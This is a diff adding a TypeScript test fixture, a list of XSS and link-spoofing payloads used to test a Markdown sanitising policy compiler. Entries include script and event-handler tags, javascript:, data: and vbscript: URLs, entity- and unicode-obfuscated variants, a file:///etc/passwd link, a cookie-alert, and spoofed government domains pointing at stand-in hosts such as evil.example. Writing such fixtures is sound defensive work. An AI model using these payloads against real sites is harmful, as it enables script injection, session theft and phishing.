@@ -1,0 +1,81 @@
+/**
+ * XSS payloads fed through the policy compiler. Sources of inspiration: the classic vectors named in
+ * docs/security.md §4.2 (js-xss test_xss.js, DOMPurify fixtures, OWASP filter-evasion cheat sheet); written
+ * here from memory, not copied. Each one is Markdown an author (or an attacker with repo access) could write.
+ */
+export const XSS_PAYLOADS: readonly string[] = [
+  // raw tags
+  '<script>alert(1)</script>',
+  '<SCRIPT SRC=//xss.example/x.js></SCRIPT>',
+  '<img src=x onerror=alert(1)>',
+  '<img src="x" onerror="alert(document.cookie)" />',
+  '<svg onload=alert(1)>',
+  '<svg><script>alert(1)</script></svg>',
+  '<iframe src="javascript:alert(1)"></iframe>',
+  '<body onload=alert(1)>',
+  '<a href="javascript:alert(1)">点我</a>',
+  '<div style="background:url(javascript:alert(1))">x</div>',
+  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
+  '<details open ontoggle=alert(1)>',
+  '<input autofocus onfocus=alert(1)>',
+  '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>',
+  '<embed src="javascript:alert(1)">',
+  '<form action="javascript:alert(1)"><button>提交</button></form>',
+  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
+  '<base href="javascript:alert(1)//">',
+  '<!-- <img src=x onerror=alert(1)> -->',
+  '<scr<script>ipt>alert(1)</scr</script>ipt>',
+  // html blocks (start of line)
+  '<div>\n<img src=x onerror=alert(1)>\n</div>',
+  '<style>body{background:url("javascript:alert(1)")}</style>',
+  // markdown links and images
+  '[点我](javascript:alert(1))',
+  '[点我](JaVaScRiPt:alert(1))',
+  '[点我]( javascript:alert(1) )',
+  '[点我](javascript&#58;alert(1))',
+  '[点我](&#106;avascript:alert(1))',
+  '[点我](java\tscript:alert(1))',
+  '[点我](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
+  '[点我](vbscript:msgbox(1))',
+  '[点我](file:///etc/passwd)',
+  '[点我](//evil.example/x)',
+  '[点我](http://www.mca.gov.cn/)',
+  '[点我](https://www.mca.gov.cn.evil.example/)',
+  '[点我](https://www.gov.cn@evil.example/)',
+  '[点我](https://evilgov.cn/)',
+  '[点我](https://www.gоv.cn/)', // Cyrillic о
+  '[点我](https://www.mca.gov.cn:8443/)',
+  '[点我](/pages/../../etc/passwd)',
+  '[点我](/packages/precheck/index"onmouseover="alert(1))',
+  '[点我][ref]\n\n[ref]: javascript:alert(1)',
+  '<javascript:alert(1)>',
+  '<https://evil.example/>',
+  '![x](javascript:alert(1))',
+  '![x" onerror="alert(1)](https://www.mca.gov.cn/x.png)',
+  '![<img src=x onerror=alert(1)>](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)',
+  '[![x](https://www.mca.gov.cn/a.png)](javascript:alert(1))',
+  '[a](https://www.mca.gov.cn/ "title\\" onmouseover=\\"alert(1)")',
+  // entity-encoded payloads
+  '&lt;script&gt;alert(1)&lt;/script&gt;',
+  '&#60;img src=x onerror=alert(1)&#62;',
+  '&#x3C;svg onload=alert(1)&#x3E;',
+  '\\<script>alert(1)\\</script>',
+  // attribute injection through our own syntax
+  '{{<img src=x onerror=alert(1)>|参考值}}',
+  '{{7 天" onclick="alert(1)|s:law649}}',
+  '{{x|s:__proto__}}',
+  '{{ |}}', // found by the property test: an empty annotation used to give a schema-invalid node
+  '{{|参考值}}',
+  '## <img src=x onerror=alert(1)> 标题',
+  '| <script>alert(1)</script> | b |\n|---|---|\n| [x](javascript:alert(1)) | <img src=x onerror=1> |',
+  '> <iframe srcdoc="<script>alert(1)</script>">',
+  '```html\n<script>alert(1)</script>\n```',
+  '    <script>alert(1)</script>',
+  // unicode tricks
+  '\u202e<script>alert(1)</script>',
+  '[点我](\u200bjavascript:alert(1))',
+  '[点我](java\u0000script:alert(1))',
+  '＜script＞alert(1)＜/script＞',
+  '[点我](ｊａｖａｓｃｒｉｐｔ:alert(1))',
+  '<scr\u0000ipt>alert(1)</scr\u0000ipt>',
+]
